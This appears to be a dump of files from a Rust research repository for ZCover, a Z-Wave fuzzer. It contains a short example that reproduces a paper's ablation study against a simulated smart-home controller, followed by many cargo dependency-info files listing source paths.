            "  bug #{:02}  CMDCL 0x{:02X} CMD 0x{:02X}  {:<55} {:>8}  found at t={:.0}s after {} packets",
            f.bug_id,
            f.cmdcl,
            f.cmd,
            f.effect.to_string(),
            f.duration_label(),
            f.found_at.as_secs_f64(),
            f.found_after_packets
        );
    }
}

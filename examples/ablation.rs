//! The Table VI ablation study as a runnable example.
//!
//! ```text
//! cargo run --release --example ablation
//! ```
//!
//! Runs the three ZCover configurations for one virtual hour each against
//! the ZooZ ZST10 and prints what each found, demonstrating the value of
//! unknown-CMDCL discovery and position-sensitive mutation.

use std::time::Duration;

use zcover_suite::zcover::{FuzzConfig, ZCover};
use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};

fn run(label: &str, config: FuzzConfig) {
    let mut testbed = Testbed::new(DeviceModel::D1, config.seed);
    let mut zcover = ZCover::attach(&testbed, 70.0);
    let report = zcover.run_campaign(&mut testbed, config).expect("network alive");
    let ids: Vec<u8> = report.campaign.findings.iter().map(|f| f.bug_id).collect();
    println!(
        "{label:<12} {:>2} unique vulns in {:>6} packets  -> bugs {ids:?}",
        report.campaign.unique_vulns(),
        report.campaign.packets_sent,
    );
}

fn main() {
    let hour = Duration::from_secs(3600);
    println!("one virtual hour on ZooZ ZST10 (D1), per configuration:\n");
    run("full", FuzzConfig::full(hour, 6));
    run("beta", FuzzConfig::beta(hour, 6));
    run("gamma", FuzzConfig::gamma(hour, 6));
    println!("\npaper (Table VI): full=15, beta=8, gamma=6");
}

/root/repo/target/debug/deps/zwave_radio-ed27c5065a6e34da.d: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs Cargo.toml

/root/repo/target/debug/deps/libzwave_radio-ed27c5065a6e34da.rmeta: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs Cargo.toml

crates/zwave-radio/src/lib.rs:
crates/zwave-radio/src/clock.rs:
crates/zwave-radio/src/medium.rs:
crates/zwave-radio/src/noise.rs:
crates/zwave-radio/src/region.rs:
crates/zwave-radio/src/sniffer.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

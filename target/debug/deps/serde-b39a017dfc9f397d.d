/root/repo/target/debug/deps/serde-b39a017dfc9f397d.d: vendor/serde/src/lib.rs

/root/repo/target/debug/deps/libserde-b39a017dfc9f397d.rmeta: vendor/serde/src/lib.rs

vendor/serde/src/lib.rs:

/root/repo/target/debug/deps/figure12-b46ffb690ad22805.d: crates/bench/src/bin/figure12.rs

/root/repo/target/debug/deps/libfigure12-b46ffb690ad22805.rmeta: crates/bench/src/bin/figure12.rs

crates/bench/src/bin/figure12.rs:

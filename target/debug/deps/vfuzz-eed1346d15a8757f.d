/root/repo/target/debug/deps/vfuzz-eed1346d15a8757f.d: crates/vfuzz/src/lib.rs

/root/repo/target/debug/deps/libvfuzz-eed1346d15a8757f.rlib: crates/vfuzz/src/lib.rs

/root/repo/target/debug/deps/libvfuzz-eed1346d15a8757f.rmeta: crates/vfuzz/src/lib.rs

crates/vfuzz/src/lib.rs:

/root/repo/target/debug/deps/sensor_device-c6ab0d182ef6a0e1.d: tests/sensor_device.rs

/root/repo/target/debug/deps/sensor_device-c6ab0d182ef6a0e1: tests/sensor_device.rs

tests/sensor_device.rs:

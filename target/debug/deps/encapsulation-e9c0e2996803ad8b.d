/root/repo/target/debug/deps/encapsulation-e9c0e2996803ad8b.d: tests/encapsulation.rs Cargo.toml

/root/repo/target/debug/deps/libencapsulation-e9c0e2996803ad8b.rmeta: tests/encapsulation.rs Cargo.toml

tests/encapsulation.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

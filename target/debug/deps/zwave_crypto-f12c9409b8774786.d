/root/repo/target/debug/deps/zwave_crypto-f12c9409b8774786.d: crates/zwave-crypto/src/lib.rs crates/zwave-crypto/src/aes.rs crates/zwave-crypto/src/ccm.rs crates/zwave-crypto/src/cmac.rs crates/zwave-crypto/src/curve25519.rs crates/zwave-crypto/src/inclusion.rs crates/zwave-crypto/src/kdf.rs crates/zwave-crypto/src/keys.rs crates/zwave-crypto/src/s0.rs crates/zwave-crypto/src/s2.rs

/root/repo/target/debug/deps/libzwave_crypto-f12c9409b8774786.rlib: crates/zwave-crypto/src/lib.rs crates/zwave-crypto/src/aes.rs crates/zwave-crypto/src/ccm.rs crates/zwave-crypto/src/cmac.rs crates/zwave-crypto/src/curve25519.rs crates/zwave-crypto/src/inclusion.rs crates/zwave-crypto/src/kdf.rs crates/zwave-crypto/src/keys.rs crates/zwave-crypto/src/s0.rs crates/zwave-crypto/src/s2.rs

/root/repo/target/debug/deps/libzwave_crypto-f12c9409b8774786.rmeta: crates/zwave-crypto/src/lib.rs crates/zwave-crypto/src/aes.rs crates/zwave-crypto/src/ccm.rs crates/zwave-crypto/src/cmac.rs crates/zwave-crypto/src/curve25519.rs crates/zwave-crypto/src/inclusion.rs crates/zwave-crypto/src/kdf.rs crates/zwave-crypto/src/keys.rs crates/zwave-crypto/src/s0.rs crates/zwave-crypto/src/s2.rs

crates/zwave-crypto/src/lib.rs:
crates/zwave-crypto/src/aes.rs:
crates/zwave-crypto/src/ccm.rs:
crates/zwave-crypto/src/cmac.rs:
crates/zwave-crypto/src/curve25519.rs:
crates/zwave-crypto/src/inclusion.rs:
crates/zwave-crypto/src/kdf.rs:
crates/zwave-crypto/src/keys.rs:
crates/zwave-crypto/src/s0.rs:
crates/zwave-crypto/src/s2.rs:

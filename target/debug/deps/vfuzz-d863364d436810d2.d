/root/repo/target/debug/deps/vfuzz-d863364d436810d2.d: crates/vfuzz/src/lib.rs

/root/repo/target/debug/deps/libvfuzz-d863364d436810d2.rmeta: crates/vfuzz/src/lib.rs

crates/vfuzz/src/lib.rs:

/root/repo/target/debug/deps/zwave_crypto-66f289b15041c868.d: crates/zwave-crypto/src/lib.rs crates/zwave-crypto/src/aes.rs crates/zwave-crypto/src/ccm.rs crates/zwave-crypto/src/cmac.rs crates/zwave-crypto/src/curve25519.rs crates/zwave-crypto/src/inclusion.rs crates/zwave-crypto/src/kdf.rs crates/zwave-crypto/src/keys.rs crates/zwave-crypto/src/s0.rs crates/zwave-crypto/src/s2.rs

/root/repo/target/debug/deps/libzwave_crypto-66f289b15041c868.rmeta: crates/zwave-crypto/src/lib.rs crates/zwave-crypto/src/aes.rs crates/zwave-crypto/src/ccm.rs crates/zwave-crypto/src/cmac.rs crates/zwave-crypto/src/curve25519.rs crates/zwave-crypto/src/inclusion.rs crates/zwave-crypto/src/kdf.rs crates/zwave-crypto/src/keys.rs crates/zwave-crypto/src/s0.rs crates/zwave-crypto/src/s2.rs

crates/zwave-crypto/src/lib.rs:
crates/zwave-crypto/src/aes.rs:
crates/zwave-crypto/src/ccm.rs:
crates/zwave-crypto/src/cmac.rs:
crates/zwave-crypto/src/curve25519.rs:
crates/zwave-crypto/src/inclusion.rs:
crates/zwave-crypto/src/kdf.rs:
crates/zwave-crypto/src/keys.rs:
crates/zwave-crypto/src/s0.rs:
crates/zwave-crypto/src/s2.rs:

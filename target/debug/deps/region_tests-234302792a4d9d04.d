/root/repo/target/debug/deps/region_tests-234302792a4d9d04.d: crates/zwave-radio/tests/region_tests.rs Cargo.toml

/root/repo/target/debug/deps/libregion_tests-234302792a4d9d04.rmeta: crates/zwave-radio/tests/region_tests.rs Cargo.toml

crates/zwave-radio/tests/region_tests.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

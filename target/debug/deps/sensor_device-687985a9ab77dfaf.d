/root/repo/target/debug/deps/sensor_device-687985a9ab77dfaf.d: tests/sensor_device.rs Cargo.toml

/root/repo/target/debug/deps/libsensor_device-687985a9ab77dfaf.rmeta: tests/sensor_device.rs Cargo.toml

tests/sensor_device.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

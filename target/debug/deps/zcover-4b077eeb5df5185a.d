/root/repo/target/debug/deps/zcover-4b077eeb5df5185a.d: crates/core/src/bin/zcover.rs Cargo.toml

/root/repo/target/debug/deps/libzcover-4b077eeb5df5185a.rmeta: crates/core/src/bin/zcover.rs Cargo.toml

crates/core/src/bin/zcover.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

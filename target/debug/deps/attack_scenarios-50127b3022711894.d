/root/repo/target/debug/deps/attack_scenarios-50127b3022711894.d: tests/attack_scenarios.rs

/root/repo/target/debug/deps/attack_scenarios-50127b3022711894: tests/attack_scenarios.rs

tests/attack_scenarios.rs:

/root/repo/target/debug/deps/robustness-c4c21f622f8eaf0b.d: tests/robustness.rs

/root/repo/target/debug/deps/robustness-c4c21f622f8eaf0b: tests/robustness.rs

tests/robustness.rs:

/root/repo/target/debug/deps/vfuzz-9add08031d608a54.d: crates/vfuzz/src/lib.rs Cargo.toml

/root/repo/target/debug/deps/libvfuzz-9add08031d608a54.rmeta: crates/vfuzz/src/lib.rs Cargo.toml

crates/vfuzz/src/lib.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

/root/repo/target/debug/deps/figure12-5f0fcb9b0a134276.d: crates/bench/src/bin/figure12.rs Cargo.toml

/root/repo/target/debug/deps/libfigure12-5f0fcb9b0a134276.rmeta: crates/bench/src/bin/figure12.rs Cargo.toml

crates/bench/src/bin/figure12.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

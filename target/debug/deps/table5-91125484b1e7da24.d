/root/repo/target/debug/deps/table5-91125484b1e7da24.d: crates/bench/src/bin/table5.rs

/root/repo/target/debug/deps/libtable5-91125484b1e7da24.rmeta: crates/bench/src/bin/table5.rs

crates/bench/src/bin/table5.rs:

/root/repo/target/debug/deps/attack_scenarios-a9a59acfaa82ef8e.d: tests/attack_scenarios.rs Cargo.toml

/root/repo/target/debug/deps/libattack_scenarios-a9a59acfaa82ef8e.rmeta: tests/attack_scenarios.rs Cargo.toml

tests/attack_scenarios.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

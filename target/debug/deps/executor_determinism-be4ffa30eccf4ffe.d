/root/repo/target/debug/deps/executor_determinism-be4ffa30eccf4ffe.d: crates/core/tests/executor_determinism.rs Cargo.toml

/root/repo/target/debug/deps/libexecutor_determinism-be4ffa30eccf4ffe.rmeta: crates/core/tests/executor_determinism.rs Cargo.toml

crates/core/tests/executor_determinism.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

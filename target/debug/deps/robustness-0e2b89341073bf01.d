/root/repo/target/debug/deps/robustness-0e2b89341073bf01.d: crates/bench/src/bin/robustness.rs

/root/repo/target/debug/deps/librobustness-0e2b89341073bf01.rmeta: crates/bench/src/bin/robustness.rs

crates/bench/src/bin/robustness.rs:

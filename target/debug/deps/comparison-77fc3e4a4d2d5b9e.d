/root/repo/target/debug/deps/comparison-77fc3e4a4d2d5b9e.d: tests/comparison.rs Cargo.toml

/root/repo/target/debug/deps/libcomparison-77fc3e4a4d2d5b9e.rmeta: tests/comparison.rs Cargo.toml

tests/comparison.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

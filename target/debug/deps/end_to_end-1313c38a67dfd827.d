/root/repo/target/debug/deps/end_to_end-1313c38a67dfd827.d: tests/end_to_end.rs

/root/repo/target/debug/deps/end_to_end-1313c38a67dfd827: tests/end_to_end.rs

tests/end_to_end.rs:

/root/repo/target/debug/deps/zwave_protocol-571b836bcc764391.d: crates/zwave-protocol/src/lib.rs crates/zwave-protocol/src/apl.rs crates/zwave-protocol/src/checksum.rs crates/zwave-protocol/src/command_class.rs crates/zwave-protocol/src/dissect.rs crates/zwave-protocol/src/error.rs crates/zwave-protocol/src/frame.rs crates/zwave-protocol/src/multicast.rs crates/zwave-protocol/src/nif.rs crates/zwave-protocol/src/registry/mod.rs crates/zwave-protocol/src/registry/data.rs crates/zwave-protocol/src/registry/proprietary.rs crates/zwave-protocol/src/registry/xml.rs crates/zwave-protocol/src/routing.rs crates/zwave-protocol/src/types.rs

/root/repo/target/debug/deps/libzwave_protocol-571b836bcc764391.rmeta: crates/zwave-protocol/src/lib.rs crates/zwave-protocol/src/apl.rs crates/zwave-protocol/src/checksum.rs crates/zwave-protocol/src/command_class.rs crates/zwave-protocol/src/dissect.rs crates/zwave-protocol/src/error.rs crates/zwave-protocol/src/frame.rs crates/zwave-protocol/src/multicast.rs crates/zwave-protocol/src/nif.rs crates/zwave-protocol/src/registry/mod.rs crates/zwave-protocol/src/registry/data.rs crates/zwave-protocol/src/registry/proprietary.rs crates/zwave-protocol/src/registry/xml.rs crates/zwave-protocol/src/routing.rs crates/zwave-protocol/src/types.rs

crates/zwave-protocol/src/lib.rs:
crates/zwave-protocol/src/apl.rs:
crates/zwave-protocol/src/checksum.rs:
crates/zwave-protocol/src/command_class.rs:
crates/zwave-protocol/src/dissect.rs:
crates/zwave-protocol/src/error.rs:
crates/zwave-protocol/src/frame.rs:
crates/zwave-protocol/src/multicast.rs:
crates/zwave-protocol/src/nif.rs:
crates/zwave-protocol/src/registry/mod.rs:
crates/zwave-protocol/src/registry/data.rs:
crates/zwave-protocol/src/registry/proprietary.rs:
crates/zwave-protocol/src/registry/xml.rs:
crates/zwave-protocol/src/routing.rs:
crates/zwave-protocol/src/types.rs:

/root/repo/target/debug/deps/proptests-006d65fd6f74a778.d: crates/zwave-protocol/tests/proptests.rs Cargo.toml

/root/repo/target/debug/deps/libproptests-006d65fd6f74a778.rmeta: crates/zwave-protocol/tests/proptests.rs Cargo.toml

crates/zwave-protocol/tests/proptests.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

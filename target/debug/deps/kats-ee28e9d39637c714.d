/root/repo/target/debug/deps/kats-ee28e9d39637c714.d: crates/zwave-crypto/tests/kats.rs Cargo.toml

/root/repo/target/debug/deps/libkats-ee28e9d39637c714.rmeta: crates/zwave-crypto/tests/kats.rs Cargo.toml

crates/zwave-crypto/tests/kats.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

/root/repo/target/debug/deps/zwave_controller-25f70ad00bee3a84.d: crates/zwave-controller/src/lib.rs crates/zwave-controller/src/controller.rs crates/zwave-controller/src/devices/mod.rs crates/zwave-controller/src/devices/door_lock.rs crates/zwave-controller/src/devices/sensor.rs crates/zwave-controller/src/devices/switch.rs crates/zwave-controller/src/health.rs crates/zwave-controller/src/host.rs crates/zwave-controller/src/ids.rs crates/zwave-controller/src/nvm.rs crates/zwave-controller/src/testbed.rs crates/zwave-controller/src/vulns.rs

/root/repo/target/debug/deps/libzwave_controller-25f70ad00bee3a84.rmeta: crates/zwave-controller/src/lib.rs crates/zwave-controller/src/controller.rs crates/zwave-controller/src/devices/mod.rs crates/zwave-controller/src/devices/door_lock.rs crates/zwave-controller/src/devices/sensor.rs crates/zwave-controller/src/devices/switch.rs crates/zwave-controller/src/health.rs crates/zwave-controller/src/host.rs crates/zwave-controller/src/ids.rs crates/zwave-controller/src/nvm.rs crates/zwave-controller/src/testbed.rs crates/zwave-controller/src/vulns.rs

crates/zwave-controller/src/lib.rs:
crates/zwave-controller/src/controller.rs:
crates/zwave-controller/src/devices/mod.rs:
crates/zwave-controller/src/devices/door_lock.rs:
crates/zwave-controller/src/devices/sensor.rs:
crates/zwave-controller/src/devices/switch.rs:
crates/zwave-controller/src/health.rs:
crates/zwave-controller/src/host.rs:
crates/zwave-controller/src/ids.rs:
crates/zwave-controller/src/nvm.rs:
crates/zwave-controller/src/testbed.rs:
crates/zwave-controller/src/vulns.rs:

/root/repo/target/debug/deps/executor_determinism-37362aa2e334c053.d: crates/core/tests/executor_determinism.rs

/root/repo/target/debug/deps/executor_determinism-37362aa2e334c053: crates/core/tests/executor_determinism.rs

crates/core/tests/executor_determinism.rs:

/root/repo/target/debug/deps/zwave_controller-38b690afc186a1b1.d: crates/zwave-controller/src/lib.rs crates/zwave-controller/src/controller.rs crates/zwave-controller/src/devices/mod.rs crates/zwave-controller/src/devices/door_lock.rs crates/zwave-controller/src/devices/sensor.rs crates/zwave-controller/src/devices/switch.rs crates/zwave-controller/src/health.rs crates/zwave-controller/src/host.rs crates/zwave-controller/src/ids.rs crates/zwave-controller/src/nvm.rs crates/zwave-controller/src/testbed.rs crates/zwave-controller/src/vulns.rs Cargo.toml

/root/repo/target/debug/deps/libzwave_controller-38b690afc186a1b1.rmeta: crates/zwave-controller/src/lib.rs crates/zwave-controller/src/controller.rs crates/zwave-controller/src/devices/mod.rs crates/zwave-controller/src/devices/door_lock.rs crates/zwave-controller/src/devices/sensor.rs crates/zwave-controller/src/devices/switch.rs crates/zwave-controller/src/health.rs crates/zwave-controller/src/host.rs crates/zwave-controller/src/ids.rs crates/zwave-controller/src/nvm.rs crates/zwave-controller/src/testbed.rs crates/zwave-controller/src/vulns.rs Cargo.toml

crates/zwave-controller/src/lib.rs:
crates/zwave-controller/src/controller.rs:
crates/zwave-controller/src/devices/mod.rs:
crates/zwave-controller/src/devices/door_lock.rs:
crates/zwave-controller/src/devices/sensor.rs:
crates/zwave-controller/src/devices/switch.rs:
crates/zwave-controller/src/health.rs:
crates/zwave-controller/src/host.rs:
crates/zwave-controller/src/ids.rs:
crates/zwave-controller/src/nvm.rs:
crates/zwave-controller/src/testbed.rs:
crates/zwave-controller/src/vulns.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

/root/repo/target/debug/deps/inclusion_over_air-9ca27762e1c9e0a8.d: tests/inclusion_over_air.rs Cargo.toml

/root/repo/target/debug/deps/libinclusion_over_air-9ca27762e1c9e0a8.rmeta: tests/inclusion_over_air.rs Cargo.toml

tests/inclusion_over_air.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

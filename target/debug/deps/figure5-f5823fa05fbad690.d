/root/repo/target/debug/deps/figure5-f5823fa05fbad690.d: crates/bench/src/bin/figure5.rs

/root/repo/target/debug/deps/libfigure5-f5823fa05fbad690.rmeta: crates/bench/src/bin/figure5.rs

crates/bench/src/bin/figure5.rs:

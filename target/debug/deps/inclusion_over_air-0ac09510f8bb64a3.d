/root/repo/target/debug/deps/inclusion_over_air-0ac09510f8bb64a3.d: tests/inclusion_over_air.rs

/root/repo/target/debug/deps/inclusion_over_air-0ac09510f8bb64a3: tests/inclusion_over_air.rs

tests/inclusion_over_air.rs:

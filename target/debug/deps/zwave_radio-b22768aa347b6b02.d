/root/repo/target/debug/deps/zwave_radio-b22768aa347b6b02.d: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs

/root/repo/target/debug/deps/libzwave_radio-b22768aa347b6b02.rlib: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs

/root/repo/target/debug/deps/libzwave_radio-b22768aa347b6b02.rmeta: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs

crates/zwave-radio/src/lib.rs:
crates/zwave-radio/src/clock.rs:
crates/zwave-radio/src/medium.rs:
crates/zwave-radio/src/noise.rs:
crates/zwave-radio/src/region.rs:
crates/zwave-radio/src/sniffer.rs:

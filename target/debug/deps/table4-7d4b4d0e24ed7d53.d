/root/repo/target/debug/deps/table4-7d4b4d0e24ed7d53.d: crates/bench/src/bin/table4.rs

/root/repo/target/debug/deps/libtable4-7d4b4d0e24ed7d53.rmeta: crates/bench/src/bin/table4.rs

crates/bench/src/bin/table4.rs:

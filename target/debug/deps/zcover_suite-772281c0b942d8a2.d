/root/repo/target/debug/deps/zcover_suite-772281c0b942d8a2.d: src/lib.rs

/root/repo/target/debug/deps/libzcover_suite-772281c0b942d8a2.rmeta: src/lib.rs

src/lib.rs:

/root/repo/target/debug/deps/proptests-785e2e3d008e176e.d: crates/zwave-controller/tests/proptests.rs Cargo.toml

/root/repo/target/debug/deps/libproptests-785e2e3d008e176e.rmeta: crates/zwave-controller/tests/proptests.rs Cargo.toml

crates/zwave-controller/tests/proptests.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

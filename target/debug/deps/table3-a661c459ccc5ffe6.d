/root/repo/target/debug/deps/table3-a661c459ccc5ffe6.d: crates/bench/src/bin/table3.rs

/root/repo/target/debug/deps/libtable3-a661c459ccc5ffe6.rmeta: crates/bench/src/bin/table3.rs

crates/bench/src/bin/table3.rs:

/root/repo/target/debug/deps/zwave_protocol-b900d4ef74e73f21.d: crates/zwave-protocol/src/lib.rs crates/zwave-protocol/src/apl.rs crates/zwave-protocol/src/checksum.rs crates/zwave-protocol/src/command_class.rs crates/zwave-protocol/src/dissect.rs crates/zwave-protocol/src/error.rs crates/zwave-protocol/src/frame.rs crates/zwave-protocol/src/multicast.rs crates/zwave-protocol/src/nif.rs crates/zwave-protocol/src/registry/mod.rs crates/zwave-protocol/src/registry/data.rs crates/zwave-protocol/src/registry/proprietary.rs crates/zwave-protocol/src/registry/xml.rs crates/zwave-protocol/src/routing.rs crates/zwave-protocol/src/types.rs Cargo.toml

/root/repo/target/debug/deps/libzwave_protocol-b900d4ef74e73f21.rmeta: crates/zwave-protocol/src/lib.rs crates/zwave-protocol/src/apl.rs crates/zwave-protocol/src/checksum.rs crates/zwave-protocol/src/command_class.rs crates/zwave-protocol/src/dissect.rs crates/zwave-protocol/src/error.rs crates/zwave-protocol/src/frame.rs crates/zwave-protocol/src/multicast.rs crates/zwave-protocol/src/nif.rs crates/zwave-protocol/src/registry/mod.rs crates/zwave-protocol/src/registry/data.rs crates/zwave-protocol/src/registry/proprietary.rs crates/zwave-protocol/src/registry/xml.rs crates/zwave-protocol/src/routing.rs crates/zwave-protocol/src/types.rs Cargo.toml

crates/zwave-protocol/src/lib.rs:
crates/zwave-protocol/src/apl.rs:
crates/zwave-protocol/src/checksum.rs:
crates/zwave-protocol/src/command_class.rs:
crates/zwave-protocol/src/dissect.rs:
crates/zwave-protocol/src/error.rs:
crates/zwave-protocol/src/frame.rs:
crates/zwave-protocol/src/multicast.rs:
crates/zwave-protocol/src/nif.rs:
crates/zwave-protocol/src/registry/mod.rs:
crates/zwave-protocol/src/registry/data.rs:
crates/zwave-protocol/src/registry/proprietary.rs:
crates/zwave-protocol/src/registry/xml.rs:
crates/zwave-protocol/src/routing.rs:
crates/zwave-protocol/src/types.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

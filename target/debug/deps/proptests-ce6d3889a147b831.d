/root/repo/target/debug/deps/proptests-ce6d3889a147b831.d: crates/zwave-crypto/tests/proptests.rs Cargo.toml

/root/repo/target/debug/deps/libproptests-ce6d3889a147b831.rmeta: crates/zwave-crypto/tests/proptests.rs Cargo.toml

crates/zwave-crypto/tests/proptests.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

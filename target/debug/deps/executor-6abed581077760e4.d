/root/repo/target/debug/deps/executor-6abed581077760e4.d: crates/bench/benches/executor.rs Cargo.toml

/root/repo/target/debug/deps/libexecutor-6abed581077760e4.rmeta: crates/bench/benches/executor.rs Cargo.toml

crates/bench/benches/executor.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

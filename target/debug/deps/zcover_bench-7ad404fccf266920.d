/root/repo/target/debug/deps/zcover_bench-7ad404fccf266920.d: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs Cargo.toml

/root/repo/target/debug/deps/libzcover_bench-7ad404fccf266920.rmeta: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs Cargo.toml

crates/bench/src/lib.rs:
crates/bench/src/experiments.rs:
crates/bench/src/paperdata.rs:
crates/bench/src/render.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

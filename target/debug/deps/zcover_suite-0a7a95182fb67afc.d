/root/repo/target/debug/deps/zcover_suite-0a7a95182fb67afc.d: src/lib.rs

/root/repo/target/debug/deps/libzcover_suite-0a7a95182fb67afc.rlib: src/lib.rs

/root/repo/target/debug/deps/libzcover_suite-0a7a95182fb67afc.rmeta: src/lib.rs

src/lib.rs:

/root/repo/target/debug/deps/zcover_bench-0b651bd6448e6c40.d: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

/root/repo/target/debug/deps/libzcover_bench-0b651bd6448e6c40.rmeta: crates/bench/src/lib.rs crates/bench/src/experiments.rs crates/bench/src/paperdata.rs crates/bench/src/render.rs

crates/bench/src/lib.rs:
crates/bench/src/experiments.rs:
crates/bench/src/paperdata.rs:
crates/bench/src/render.rs:

/root/repo/target/debug/deps/zwave_radio-ac332b560412a3a9.d: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs Cargo.toml

/root/repo/target/debug/deps/libzwave_radio-ac332b560412a3a9.rmeta: crates/zwave-radio/src/lib.rs crates/zwave-radio/src/clock.rs crates/zwave-radio/src/medium.rs crates/zwave-radio/src/noise.rs crates/zwave-radio/src/region.rs crates/zwave-radio/src/sniffer.rs Cargo.toml

crates/zwave-radio/src/lib.rs:
crates/zwave-radio/src/clock.rs:
crates/zwave-radio/src/medium.rs:
crates/zwave-radio/src/noise.rs:
crates/zwave-radio/src/region.rs:
crates/zwave-radio/src/sniffer.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

/root/repo/target/debug/deps/table6-d96632413fd0ab6b.d: crates/bench/src/bin/table6.rs

/root/repo/target/debug/deps/libtable6-d96632413fd0ab6b.rmeta: crates/bench/src/bin/table6.rs

crates/bench/src/bin/table6.rs:

/root/repo/target/debug/deps/zwave_crypto-d998eb4bca890abe.d: crates/zwave-crypto/src/lib.rs crates/zwave-crypto/src/aes.rs crates/zwave-crypto/src/ccm.rs crates/zwave-crypto/src/cmac.rs crates/zwave-crypto/src/curve25519.rs crates/zwave-crypto/src/inclusion.rs crates/zwave-crypto/src/kdf.rs crates/zwave-crypto/src/keys.rs crates/zwave-crypto/src/s0.rs crates/zwave-crypto/src/s2.rs Cargo.toml

/root/repo/target/debug/deps/libzwave_crypto-d998eb4bca890abe.rmeta: crates/zwave-crypto/src/lib.rs crates/zwave-crypto/src/aes.rs crates/zwave-crypto/src/ccm.rs crates/zwave-crypto/src/cmac.rs crates/zwave-crypto/src/curve25519.rs crates/zwave-crypto/src/inclusion.rs crates/zwave-crypto/src/kdf.rs crates/zwave-crypto/src/keys.rs crates/zwave-crypto/src/s0.rs crates/zwave-crypto/src/s2.rs Cargo.toml

crates/zwave-crypto/src/lib.rs:
crates/zwave-crypto/src/aes.rs:
crates/zwave-crypto/src/ccm.rs:
crates/zwave-crypto/src/cmac.rs:
crates/zwave-crypto/src/curve25519.rs:
crates/zwave-crypto/src/inclusion.rs:
crates/zwave-crypto/src/kdf.rs:
crates/zwave-crypto/src/keys.rs:
crates/zwave-crypto/src/s0.rs:
crates/zwave-crypto/src/s2.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR

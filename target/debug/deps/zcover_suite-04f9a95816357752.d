/root/repo/target/debug/deps/zcover_suite-04f9a95816357752.d: src/lib.rs

